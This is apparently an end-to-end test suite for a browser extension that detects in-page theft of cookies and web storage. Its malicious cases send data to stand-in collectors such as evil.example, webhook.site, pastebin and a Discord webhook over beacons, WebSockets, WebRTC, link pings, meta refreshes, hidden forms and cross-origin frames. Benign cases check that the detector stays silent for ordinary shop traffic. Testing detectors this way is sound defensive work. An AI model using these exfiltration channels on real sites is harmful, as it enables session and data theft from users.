    const verdict = await maybeVerdict(saq, tabId, 'SAQ-EXF-002', to('https://webhook.site/'));
    recordCase(task, {
      behaviour: BEHAVIOUR,
      case: 'localStorage → webhook.site (sendBeacon)',
      malicious: true,
      flagged: verdict !== null,
      browser: browserName,
    });
    expect(verdict?.finding.evidence.via).toBe('beacon');
    expect(verdict?.finding.actor.url).toBe(helper('beacon-storage'));
  });

  it('catches the cookie in the URL of an EventSource (string, URL object) and a WebTransport session', async ({ task }) => {
    serve(context, 'stream-urls');
    const saq = await browser();
    const { page, tabId } = await visit(saq, `${PRODUCT}?saq-tag=stream-urls`);
    const hasTransport = await page.evaluate(() => typeof (globalThis as { WebTransport?: unknown }).WebTransport === 'function');
    const cases: Record<string, [string, string]> = {
      'https://evil.example/s-events?': ['eventsource', 'cookie → new EventSource(URL)'],
      'https://evil.example/s-events-object': ['eventsource', 'cookie → new EventSource(a URL object)'],
      ...(hasTransport
        ? { 'https://evil.example/s-transport': ['webtransport', 'cookie → new WebTransport(URL)'] as [string, string] }
        : {}),
    };
    const found = await criticalSends(task, saq, tabId, cases);
    expectCriticalBy(found, 'stream-urls');
    // Both browsers here have WebTransport: a browser without it would leave that case out, not pass it.
    expect(hasTransport).toBe(true);
  });

  it('catches the cookie sent by a deferred fetch (fetchLater) and a WebSocketStream where the browser has them', async ({ task }) => {
    serve(context, 'deferred-sends');
    const saq = await browser();
    const { page, tabId } = await visit(saq, `${PRODUCT}?saq-tag=deferred-sends`);
    const has = await page.evaluate(() => ({
      later: typeof (globalThis as { fetchLater?: unknown }).fetchLater === 'function',
      stream: typeof (globalThis as { WebSocketStream?: unknown }).WebSocketStream === 'function',
    }));
    const cases: Record<string, [string, string]> = {
      ...(has.later
        ? {
            'https://evil.example/later-request?': ['fetch-later', 'cookie → fetchLater(a Request)'] as [string, string],
            'https://evil.example/later-init?': ['fetch-later', 'cookie → fetchLater(URL, init with activateAfter)'] as [string, string],
          }
        : {}),
      ...(has.stream ? { 'wss://evil.example/stream?': ['websocket', 'cookie → new WebSocketStream(URL)'] as [string, string] } : {}),
    };
    const found = await criticalSends(task, saq, tabId, cases);
    expectCriticalBy(found, 'deferred-sends');
    expect(found['https://evil.example/later-init?']?.finding.evidence.method ?? '?').toBe('?');
    // Chromium has both; Firefox neither (so this test cannot pass in Chromium by leaving its cases out).
    expect(has).toEqual(browserName === 'chromium' ? { later: true, stream: true } : { later: false, stream: false });
  });

  it("catches the cookie carried off by a frame's location.assign bound and handed to a timer (no script on the stack; Chromium)", async ({
    task,
  }) => {
    serve(context, 'navigation-bound');
    const saq = await browser();
    const { page, tabId } = await visit(saq, `${PRODUCT}?saq-tag=navigation-bound`);
    await pollPage(page, () => (window as { __navigated?: boolean }).__navigated === true, undefined, 'the navigating helper');
    const hasApi = await hasNavigationApi(page); // Firefox 140: no navigate event (recorded as missed, not waited for)
    const sent = hasApi
      ? await maybeVerdict(
          saq,
          tabId,
          'SAQ-EXF-003',
          (v) => to('https://evil.example/nav-bound?')(v) && v.finding.evidence.via === 'navigation',
        )
      : null;
    recordCase(task, {
      behaviour: BEHAVIOUR,
      case: 'cookie → location.assign bound into a timer',
      malicious: true,
      flagged: sent !== null,
      browser: browserName,
    });
    if (!hasApi) return;
    expect(sent?.severity).toBe('critical');
    // Chromium's stack holds no page frame here; a browser that keeps the timer's caller may name the helper.
    expect(sent?.finding.actor.type).not.toBe('page');
  });

  it('catches the cookie carried off in navigations: a scripted link click, a frame’s Location, location.assign; a data: document in Chromium', async ({
    task,
  }) => {
    serve(context, 'navigations');
    const saq = await browser();
    const { page, tabId } = await visit(saq, `${PRODUCT}?saq-tag=navigations`);
    await pollPage(page, () => (window as { __navigated?: boolean }).__navigated === true, undefined, 'the navigating helper');
    const hasApi = await hasNavigationApi(page);
    // The link is seen at the call (main/link-follow.ts), the rest by the navigate event: in a browser without
    // the Navigation API the frame's Location is recorded as missed (the helper then skips location.assign).
    const cases: Record<string, [string, string]> = {
      'https://evil.example/nav-link?': ['navigation', 'cookie → a scripted click on a link into a frame'],
      ...(hasApi
        ? ({
            'https://evil.example/nav-frame?': ['navigation', "cookie → a frame's contentWindow.location.href"],
            'https://evil.example/nav-top?': ['navigation', 'cookie → location.assign (the page itself)'],
          } as const)
        : {}),
    };
    if (!hasApi)
      recordCase(task, {
        behaviour: BEHAVIOUR,
        case: "cookie → a frame's contentWindow.location.href",
        malicious: true,
        flagged: false,
        browser: browserName,
      });
    const found = await criticalSends(task, saq, tabId, cases);
    // Firefox missed the frame's case on both attempts in one CI run of 034f4d4 (and not in the runs before or
    // since): what the tab and the sink had then goes into the message, should it happen again.
    const missing = Object.values(found).includes(null);
    const seen = missing
      ? [
          ...describeVerdicts(await verdicts(saq, tabId)),
          ...context.shop.requests.filter((r) => r.host === 'evil.example').map((r) => `sink: ${r.path.slice(0, 80)}`),
        ]
      : [];
    expectCriticalBy(found, 'navigations', seen);
    // The data: document really ran (the channel is real), and its start was seen as code put in.
    await eventually(
      async () => context.shop.requests.some((r) => r.host === 'evil.example' && r.path.startsWith('/nav-data')),
      (sent) => sent,
      "the data: document's request at the sink",
    );
    const code = await maybeVerdict(
      saq,
      tabId,
      'SAQ-INJ-003',
      (v) => v.finding.evidence.how === 'navigation' && String(v.finding.evidence.src).startsWith('data:text/html,'),
    );
    recordCase(task, {
      behaviour: BEHAVIOUR,
      case: "a frame's location.replace to a data: document that sends the cookie",
      malicious: true,
      flagged: code !== null,
      browser: browserName,
    });
    // Firefox 153: the frame's navigate event is not always seen there (recorded, not asserted; docs/security.md).
    if (browserName === 'chromium') expect(code?.finding.actor.url).toBe(helper('navigations'));
  });

  it('catches the cookie carried off by links a script follows and by meta refreshes it puts in, in both browsers', async ({ task }) => {
    serve(context, 'link-follows');
    const saq = await browser();
    const { page, tabId } = await visit(saq, `${PRODUCT}?saq-tag=link-follows`);
    await pollPage(page, () => (window as { __followed?: boolean }).__followed === true, undefined, 'the helper following links');
    const nodeValueRefreshes = browserName === 'chromium';
    const cases: Record<string, [string, string]> = {
      'https://evil.example/link-dispatched?': ['navigation', 'cookie → a click event dispatched on a link into a frame'],
      'https://evil.example/link-inner?': ['navigation', 'cookie → click() on an element inside a link into a frame'],
      'https://evil.example/link-self?': ['navigation', "cookie → click() on a link in a frame's own document, no target"],
      'https://evil.example/link-blank?': ['navigation', 'cookie → click() on a link that opens a new window'],
      'https://evil.example/link-base?': ['navigation', "cookie → click() on a link the document's <base target> sends to a new window"],
      'https://evil.example/meta-prop?': ['navigation', "cookie → a meta refresh in a frame's document (properties)"],
      'https://evil.example/meta-attr?': ['navigation', "cookie → a meta refresh in a frame's document (setAttribute, quoted URL)"],
      'https://evil.example/meta-markup?': ['navigation', "cookie → a meta refresh in a frame's document (markup)"],
      'https://evil.example/meta-parsed?': ['navigation', "cookie → a meta refresh a DOMParser made, moved into a frame's document"],
      // Only Chromium refreshes when a meta already in the document is given its URL (Firefox 153 does not).
      ...(nodeValueRefreshes
        ? {
            'https://evil.example/meta-node?': [
              'navigation',
              "cookie → a meta refresh in a frame's document given its URL by an Attr's nodeValue",
            ],
          }
        : {}),
    };
    const found = await criticalSends(task, saq, tabId, cases);
    expectCriticalBy(found, 'link-follows');
    // The channels are real: the frames went to the collector.
    const reached = await eventually(
      async () => new Set(context.shop.requests.filter((r) => r.host === 'evil.example').map((r) => r.path.split('?')[0])),
      (paths) =>
        [
          '/link-dispatched',
          '/link-inner',
          '/link-self',
          '/meta-prop',
          '/meta-attr',
          '/meta-markup',
          '/meta-parsed',
          ...(nodeValueRefreshes ? ['/meta-node'] : []),
        ].every((path) => paths.has(path)),
      'the frames at the collector',
    );
    expect(reached.has('/link-blank') || reached.has('/link-base'), 'the helper cancelled its new windows').toBe(false);
  });

  it('catches the cookie sent by an XHR the helper opened, after open() calls the browser refused', async ({ task }) => {
    serve(context, 'xhr-reopen-refused');
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=xhr-reopen-refused`);
    const found = await criticalSends(task, saq, tabId, {
      'https://evil.example/xhr-reopened': [
        'xhr',
        'cookie → XHR sent after open() calls that threw (too few arguments, CONNECT, a bad URL)',
      ],
    });
    expectCriticalBy(found, 'xhr-reopen-refused');
    await eventually(
      async () => context.shop.requests.some((r) => r.host === 'evil.example' && r.path === '/xhr-reopened'),
      (reached) => reached,
      'the request at the collector',
    );
  });

  it('catches the cookie sent in a URL padded past 2 KB as what it is, naming the helper', async ({ task }) => {
    serve(context, 'padded-url');
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=padded-url`);
    const found = await criticalSends(task, saq, tabId, {
      'https://evil.example/padded?': ['fetch', 'cookie → fetch to a URL padded past 2 KB'],
    });
    const verdict = found['https://evil.example/padded?'];
    expect(verdict?.severity).toBe('critical');
    expect(verdict?.finding.actor.url).toBe(helper('padded-url'));
    expect(String(verdict?.finding.evidence.url).length).toBe(2048); // cut to what a finding carries, its start kept
  });

  it('catches a cookie streamed over a WebSocket to an unknown host', async ({ task }) => {
    serve(context, 'websocket');
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=websocket`);
    const verdict = await maybeVerdict(
      saq,
      tabId,
      'SAQ-EXF-003',
      (v) => v.finding.evidence.via === 'websocket' && v.finding.evidence.method === 'SEND',
    );
    recordCase(task, {
      behaviour: BEHAVIOUR,
      case: 'cookie → unknown host (WebSocket)',
      malicious: true,
      flagged: verdict !== null,
      browser: browserName,
    });
    expect(verdict?.finding.evidence.url).toBe('wss://evil.example/ws');
    expect(verdict?.finding.actor.url).toBe(helper('websocket'));
  });

  it('catches the cookie carried off over WebRTC: a TURN relay, a hard-coded peer (SDP and trickled), a data channel', async ({ task }) => {
    serve(context, 'webrtc');
    const saq = await browser();
    const { page, tabId } = await visit(saq, `${PRODUCT}?saq-tag=webrtc`);
    await pollPage(
      page,
      () => (window as unknown as { __webrtcSent?: boolean }).__webrtcSent === true,
      undefined,
      'the data channel to open',
    );
    const cases: [string, string, string][] = [
      ['CONNECT', 'turn:relay.evil.example:3478?', 'cookie → TURN relay username (RTCPeerConnection)'],
      ['CONNECT', 'udp://203.0.113.7:3479', "cookie → peer hard-coded in the answer's SDP (setRemoteDescription)"],
      ['CONNECT', 'udp://198.51.100.9:3479', 'cookie → peer trickled in (addIceCandidate)'],
      // To the first remote candidate the connection was given (UDP or TCP, in the order the browser gathered
      // them), or to Saq's unknown peer when the channel opened before any was (the next test).
      ['SEND', '', 'cookie → WebRTC data channel (send)'],
    ];
    const found: (Verdict | null)[] = [];
    for (const [method, prefix, label] of cases) {
      const verdict = await maybeVerdict(
        saq,
        tabId,
        'SAQ-EXF-003',
        (v) =>
          v.finding.evidence.via === 'webrtc' &&
          v.finding.evidence.method === method &&
          (prefix !== '' ? to(prefix)(v) : /^(?:udp|tcp):\/\//.test(String(v.finding.evidence.url))),
      );
      found.push(verdict);
      recordCase(task, { behaviour: BEHAVIOUR, case: label, malicious: true, flagged: verdict !== null, browser: browserName });
    }
    for (const [i, [method, prefix]] of cases.entries()) {
      expect(found[i]?.severity, `${method} ${prefix}`).toBe('critical');
      expect(found[i]?.finding.actor.url, `${method} ${prefix}`).toBe(helper('webrtc'));
    }
    expect(found[0]?.finding.evidence.host).toBe('relay.evil.example:3478');
    expect(found[3]?.finding.evidence.bytes).toBeGreaterThan(2);
    // The alias Chromium keeps is the same wrapped constructor, as it was the same native one.
    expect(
      await page.evaluate(() => {
        const alias = (window as unknown as { webkitRTCPeerConnection?: unknown }).webkitRTCPeerConnection;
        return alias === undefined || alias === RTCPeerConnection;
      }),
    ).toBe(true);
  });

  it('catches the cookie sent over a data channel to a peer that never signals its address', async ({ task }) => {
    serve(context, 'webrtc-unsignalled-peer');
    const saq = await browser();
    const { page, tabId } = await visit(saq, `${PRODUCT}?saq-tag=webrtc-unsignalled-peer`);
    await pollPage(
      page,
      () => (window as unknown as { __webrtcSent?: boolean }).__webrtcSent === true,
      undefined,
      'the data channel to open',
    );
    const verdict = await maybeVerdict(
      saq,
      tabId,
      'SAQ-EXF-003',
      (v) => v.finding.evidence.via === 'webrtc' && v.finding.evidence.method === 'SEND',
    );
    recordCase(task, {
      behaviour: BEHAVIOUR,
      case: 'cookie → WebRTC data channel to a peer known only from its checks (no address signalled)',
      malicious: true,
      flagged: verdict !== null,
      browser: browserName,
    });
    expect(verdict?.severity).toBe('critical');
    // The connection holds no address: the send is reported to a host that cannot exist (peer-connections.main.ts).
    expect(verdict?.finding.evidence.url).toBe('udp://unknown-peer.invalid');
    expect(verdict?.finding.evidence.bytes).toBeGreaterThan(2);
    expect(verdict?.finding.actor.url).toBe(helper('webrtc-unsignalled-peer'));
  });

  it('catches the cookie put on links as hyperlink-auditing pings (property, setAttribute, markup)', async ({ task }) => {
    serve(context, 'ping-links');
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=ping-links`);
    const cases: Record<string, [string, string]> = {
      'https://evil.example/ping-property?': ['ping', 'cookie → link ping (ping property)'],
      'https://evil.example/ping-attribute?': ['ping', 'cookie → link ping (setAttribute, second of two URLs)'],
      'https://evil.example/ping-markup?': ['ping', 'cookie → link ping (innerHTML)'],
    };
    const found = await criticalSends(task, saq, tabId, cases);
    expectCriticalBy(found, 'ping-links');
  });

  it('catches hidden forms posted to a paste site and, by a submit button’s formaction, to a collector', async ({ task }) => {
    serve(context, 'form-post');
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=form-post`);
    const verdict = await maybeVerdict(saq, tabId, 'SAQ-EXF-002', to('https://pastebin.com/'));
    recordCase(task, {
      behaviour: BEHAVIOUR,
      case: 'cookie → pastebin (form post)',
      malicious: true,
      flagged: verdict !== null,
      browser: browserName,
    });
    const found = await criticalSends(task, saq, tabId, {
      'https://evil.example/formaction': ['form', "cookie → a form posted by requestSubmit(button), the button's formaction the collector"],
    });
    expect(verdict?.finding.evidence).toMatchObject({ via: 'form', method: 'POST' });
    expect(found['https://evil.example/formaction']?.finding.actor.url).toBe(helper('form-post'));
  });

  it('catches a form pointed at a collector inside its own submit listener (action property, formaction attribute)', async ({ task }) => {
    serve(context, 'form-swap');
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=form-swap`);
    const found = await criticalSends(task, saq, tabId, {
      'https://evil.example/f-swap': ['form', "cookie → the shop's form, its action set to a collector in a submit listener"],
      'https://evil.example/f-formaction-swap': [
        'form',
        "cookie → a form whose button's formaction is set to a collector in a submit listener",
      ],
    });
    expectCriticalBy(found, 'form-swap');
    // The posts really went there.
    await eventually(
      async () =>
        ['/f-swap', '/f-formaction-swap'].filter(
          (path) => !context.shop.requests.some((r) => r.host === 'evil.example' && r.path === path),
        ),
      (missing) => missing.length === 0,
      'both posts at the sink',
    );
  });

  it('catches a script pixel to a Discord webhook', async ({ task }) => {
    serve(context, 'script-pixel');
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=script-pixel`);
    const verdict = await maybeVerdict(saq, tabId, 'SAQ-EXF-002', (v) => v.finding.evidence.via === 'script');
    recordCase(task, {
      behaviour: BEHAVIOUR,
      case: 'cookie → Discord webhook (script pixel)',
      malicious: true,
      flagged: verdict !== null,
      browser: browserName,
    });
    expect(String(verdict?.finding.evidence.url)).toContain(DISCORD_WEBHOOK);
    expect(verdict?.finding.actor.url).toBe(helper('script-pixel'));
  });

  it('catches sessionStorage posted by XHR to a Discord webhook', async ({ task }) => {
    serve(context, 'xhr-session');
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=xhr-session`);
    const known = await maybeVerdict(saq, tabId, 'SAQ-EXF-002', (v) => v.finding.evidence.via === 'xhr');
    const afterRead = await maybeVerdict(saq, tabId, 'SAQ-EXF-003', (v) => v.finding.evidence.via === 'xhr');
    recordCase(task, {
      behaviour: BEHAVIOUR,
      case: 'sessionStorage → Discord webhook (XHR)',
      malicious: true,
      flagged: known !== null,
      browser: browserName,
    });
    expect(known?.finding.evidence.url).toBe(DISCORD_WEBHOOK);
    expect(afterRead?.severity).toBe('critical');
  });

  it('stays silent for a person buying while the shop beacons analytics, polls stock and loads its captcha', async ({ task }) => {
    const saq = await browser();
    const { page, tabId } = await visit(saq, PRODUCT);
    await page.click('[data-action="add-to-cart"]');
    // Long enough for three stock polls: from the third the hooks name the poller too (it is the shop).
    const noisy = await settleAndListLoud(saq, tabId, 6500);
    expectSilent(task, 'analytics beacon, stock polling, captcha, add to cart', noisy);
    expect(context.shop.requests.some((request) => request.host === 'cdn.shopmetrics.test' && request.path === '/collect')).toBe(true);
  });

  // Chromium times the tab's icon as `other`, the type Gecko gives a beacon: it was SAQ-EXF-001 on every page of a shop
  // whose icon is on its CDN. Firefox times the icon as `other` too: there the icon the shop's markup names is taken
  // for the icon once per address (src/content/isolated/shop-icons.ts; a helper's beacon made to look like it:
  // sensors-rest-exfil.e2e.ts). Failed before in Firefox (SAQ-EXF-001, `other`, the icon's address).
  it("stays silent for the shop's icons on its CDN", async ({ task }) => {
    context.shop.setFixture('/favicon.ico', 'icon', { host: 'media.partner.test', contentType: 'image/x-icon' });
    context.shop.setFixture('/icon-32.png', 'icon', { host: 'media.partner.test', contentType: 'image/png' });
    context.shop.setFixture(
      '/kz/shop-icon',
      '<!doctype html><html lang="kk"><head><meta charset="utf-8">' +
        '<link rel="shortcut icon" href="https://media.partner.test/favicon.ico#v2">' +
        '<link rel="ICON" sizes="32x32" href="https://media.partner.test/icon-32.png"></head><body><h1>Ілбіс</h1></body></html>',
    );
    const saq = await browser();
    const { tabId } = await visit(saq, '/kz/shop-icon');
    await partnerRequests(1, 'the icon')();
    const noisy = await settleAndListLoud(saq, tabId);
    expectSilent(task, "the shop's icons on its CDN", noisy);
  });

  silentAfterShopScript(
    'stays silent for the shop setting its own pictures by srcset, <picture>, setAttributeNS, Attr nodes, markup, CSS and SVG',
    'first-party srcset, <picture>, setAttributeNS, Attr nodes, markup, CSS and SVG pictures (own and other image hosts)',
    { name: 'gallery', script: BENIGN.gallery, doneFlag: '__gallery' },
  );

  silentAfterShopScript(
    'stays silent for the shop counting clicks on its links with pings to itself and its analytics provider',
    'first-party link pings (own stats endpoint, analytics provider with its cookie)',
    {
      name: 'links',
      script: BENIGN['link-pings'],
      doneFlag: '__linksCounted',
    },
  );

  silentAfterShopScript(
    'stays silent for the shop’s own support chat over WebRTC (its STUN server, data channels carrying its cookie, one to a peer never signalled)',
    "first-party WebRTC support chat (STUN server, data channels with the shop's cookie, one to an unsignalled peer)",
    {
      name: 'peer-chat',
      script: BENIGN['peer-chat'],
      doneFlag: '__chatted',
    },
  );

  silentAfterShopScript(
    'stays silent for the shop sending its frames and itself to its payment provider, and the person following a partner’s link',
    "first-party navigations to a payment provider with the shop's cookie (frame Location, link click and dispatched click, a <base target> link, a link in a frame's own document, location.assign, meta refreshes by property and moved in from a DOMParser); the person's click on a partner link",
    {
      name: 'pay',
      script: BENIGN['pay-navigations'],
      doneFlag: '__paid',
      then: (page) => page.click('#partner'),
    },
  );

  silentAfterShopScript(
    'stays silent for the shop opening share and help windows, its cookie in a partner’s URL',
    "first-party share and help windows (window.open, document.open), the shop's cookie in the URL",
    {
      name: 'share',
      script: BENIGN['share-window'],
      doneFlag: '__shared',
    },
  );

  // A stranger's frame handed the cookie with nothing in the request the page makes: [fixture, how, the frame's page,
  // the rule]. A message to another origin's window cannot be hooked (the caller's realm makes its postMessage
  // anew): the frame is reported as a request to a stranger (a warning), critical where the cookie was read before
  // the frame was made or rides in its address.
  const STRANGER_FRAMES: Array<[MainWorldScript, string, string, string]> = [
    [
      'stranger-frame-message',
      'by postMessage',
      "addEventListener('message', (e) => fetch('/frame-sink', { method: 'POST', body: String(e.data) }));",
      'SAQ-EXF-001',
    ],
    ['stranger-frame-name', 'as its name', "fetch('/frame-sink', { method: 'POST', body: window.name });", 'SAQ-EXF-003'],
    ...(
      [
        ['stranger-frame-fragment', 'set once it is in the page'],
        ['stranger-frame-markup', 'by markup'],
        ['stranger-frame-attribute', 'by setAttribute'],
        ['stranger-frame-object', "as an <object>'s data"],
        ['stranger-frame-embed', "as an <embed>'s src"],
        ['stranger-frame-base', "made a stranger's by a <base>"],
        ['stranger-frame-shielded', 'behind a srcdoc taken away later'],
        ['stranger-frame-srcdoc', "by a srcdoc frame's own markup"],
        ['stranger-frame-editor', "by execCommand('insertHTML')"],
        ['stranger-frame-srcdoc-script', 'by the script of a srcdoc frame it wrote'],
      ] as const
    ).map(([fixture, how]): [MainWorldScript, string, string, string] => [
      fixture,
      `in its address's fragment, ${how}`,
      FRAGMENT_SINK,
      'SAQ-EXF-003',
    ]),
  ];
  for (const [fixture, how, framePage, rule] of STRANGER_FRAMES)
    it(`catches the cookie handed to a stranger's frame ${how}`, async ({ task }) => {
      const page = fixture.replace('stranger-', '');
      context.shop.setFixture(`/${page}.html`, `<!doctype html><script>${framePage}</script>`, {
        host: 'evil.example',
        contentType: 'text/html; charset=utf-8',
      });
      serve(context, fixture);
      const saq = await browser();
      const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=${fixture}`);
      const verdict = await maybeVerdict(saq, tabId, rule, (v) =>
        String(v.finding.evidence.url).startsWith(`https://evil.example/${page}.html`),
      );
      recordCase(task, {
        behaviour: BEHAVIOUR,
        case: `cookie handed to a stranger's frame ${how}`,
        malicious: true,
        flagged: verdict !== null,
        browser: browserName,
      });
      expect(verdict?.finding.actor.url).toBe(helper(fixture));
      // The frame did send it: the channel is real, not a frame that only loaded.
      await eventually(
        async () => context.shop.requests.some((r) => r.host === 'evil.example' && r.path === '/frame-sink' && r.body.includes('=')),
        (sent) => sent,
        "the frame's request with the cookie",
      );
    });

  // The shop's srcdoc widget drawn by its script, or held in its HTML (no script gave it: main/attribution.ts).
  const SHOP_SRCDOCS: Array<[string, string, string]> = [
    [
      'srcdoc-mixed',
      '<!doctype html><html lang="kk"><head><meta charset="utf-8"></head><body><h1>Ілбіс</h1><script src="/assets/srcdoc-widget.js"></script></body></html>',
      "the shop's own srcdoc",
    ],
    ['srcdoc-mixed-html', srcdocWidgetPage('__srcdocWidget'), "the srcdoc in the shop's own HTML"],
  ];
  for (const [path, html, after] of SHOP_SRCDOCS)
    it(`names the helper for its srcdoc frame's code after ${after} drew`, async ({ task }) => {
      const fixture = 'stranger-frame-after-shop';
      context.shop.setFixture('/frame-after-shop.html', `<!doctype html><script>${FRAGMENT_SINK}</script>`, {
        host: 'evil.example',
        contentType: 'text/html; charset=utf-8',
      });
      context.shop.setFixture('/assets/srcdoc-widget.js', BENIGN['srcdoc-widget'], { contentType: 'text/javascript' });
      context.shop.setFixture(`/kz/${path}`, html);
      serve(context, fixture);
      const saq = await browser();
      await visit(saq, PRODUCT); // the shop's cookie: that page starts the session
      const { tabId } = await visit(saq, `/kz/${path}?saq-tag=${fixture}`);
      const verdict = await maybeVerdict(saq, tabId, 'SAQ-EXF-003', (v) =>
        String(v.finding.evidence.url).startsWith('https://evil.example/frame-after-shop.html'),
      );
      recordCase(task, {
        behaviour: BEHAVIOUR,
        case: `cookie handed to a stranger's frame by a srcdoc frame's script, after ${after}`,
        malicious: true,
        flagged: verdict !== null,
        browser: browserName,
      });
      // The shop's srcdoc came first: its writer must not name the helper's srcdoc code.
      expect(verdict?.finding.actor.url).toBe(helper(fixture));
    });

  // Open gap (docs/security.md): the shop's srcdoc frame's new realm polled for before its first script (the race
  // recorded in sensors-main-tamper.e2e.ts) is a srcdoc setter no hook sees; the srcdoc it gives a frame reads as the
  // shop's HTML's (main/attribution.ts, srcdocStarted). Recorded in the detection table, not asserted.
  it("records a srcdoc given through the shop's srcdoc frame's realm polled for before its first script", async ({ task }) => {
    const fixture = 'srcdoc-through-polled-shop-frame';
    serve(context, fixture);
    context.shop.setFixture('/kz/srcdoc-polled', srcdocWidgetPage('__srcdocPolledWidget'));
    const saq = await browser();
    await visit(saq, PRODUCT); // the shop's cookie: that page starts the session
    const { tabId } = await visit(saq, `/kz/srcdoc-polled?saq-tag=${fixture}`);
    await eventually(
      async () => context.shop.requests.some((r) => r.host === 'evil.example' && r.path.startsWith(`/${fixture}?`)),
      (sent) => sent,
      `the helper's request to /${fixture}`,
    );
    const verdict = await maybeVerdict(saq, tabId, 'SAQ-EXF-003', (v) =>
      String(v.finding.evidence.url).startsWith(`https://evil.example/${fixture}?`),
    );
    // Flagged only when the verdict does not name the shop: at the review of the handover it was critical in both
    // browsers, with the shop (`about:srcdoc`, page) as its actor.
    recordCase(task, {
      behaviour: BEHAVIOUR,
      case: "srcdoc given through the shop's srcdoc frame's realm polled for before its first script, not named the shop's",
      malicious: true,
      flagged: verdict !== null && verdict.finding.actor.type !== 'page',
      browser: browserName,
    });
  });

  it("stays silent for a srcdoc frame in the shop's own HTML whose script shows another site's pages", async ({ task }) => {
    context.shop.setFixture('/kz/srcdoc-in-html', srcdocWidgetPage('__srcdocHtmlWidget'));
    const saq = await browser();
    const { page, tabId } = await visit(saq, '/kz/srcdoc-in-html');
    await pollPage(page, () => (window as unknown as Record<string, unknown>).__srcdocHtmlWidget === true, undefined, 'the widget');
    // The frames were shown: there was something to judge.
    await partnerRequests(3, "the partner's pages")();
    expectSilent(task, "srcdoc frame in the shop's HTML, its script showing another site's pages", await settleAndListLoud(saq, tabId));
  });

  silentAfterShopScript(
    "stays silent for a srcdoc frame of the shop's whose own script shows another site's pages",
    "shop's srcdoc frame's script showing another site's pages",
    {
      name: 'srcdoc-widget',
      script: BENIGN['srcdoc-widget'],
      doneFlag: '__srcdocWidget',
      // The frames were shown: there was something to judge.
      then: partnerRequests(3, "the partner's pages"),
    },
  );

  silentAfterShopScript(
    "stays silent for the shop's own frames, object and embed showing another site's page",
    "shop's own frames showing another site's page",
    {
      name: 'partner-media',
      script: BENIGN['partner-media'],
      doneFlag: '__mediaShown',
    },
  );

  silentAfterShopScript(
    "stays silent for the shop's own srcdoc and about:blank frames loading another site's pictures, style and script",
    "shop's own same-origin frames loading another site's files",
    {
      name: 'widget-frames',
      script: BENIGN['widget-frames'],
      doneFlag: '__widgetDrawn',
      // The frames' loads have reached the partner's host: there was something to judge.
      then: partnerRequests(4, "the frames' loads at the partner's host"),
    },
  );

  it('stays silent for a payment form the shop posts to its payment provider', async ({ task }) => {
    context.shop.setFixture(
      '/kz/pay-embedded',
      `<!doctype html><html lang="kk"><head><meta charset="utf-8"></head><body>
<form method="post" action="https://epay.kazpay.test/pay" target="pay-frame" data-role="payment-form">
<input type="hidden" name="orderId" value="A-1"><input type="hidden" name="amount" value="38000">
<button type="submit" data-role="checkout-submit">Төлеу</button></form>
<iframe name="pay-frame" title="payment"></iframe></body></html>`,
    );
    const saq = await browser();
    const { page, tabId } = await visit(saq, '/kz/pay-embedded');
    await page.click('[data-role="checkout-submit"]');
    const noisy = await settleAndListLoud(saq, tabId);
    expectSilent(task, 'payment form posted to the payment provider', noisy);
    expect(context.shop.requests.some((request) => request.host === 'epay.kazpay.test' && request.method === 'POST')).toBe(true);
  });
});
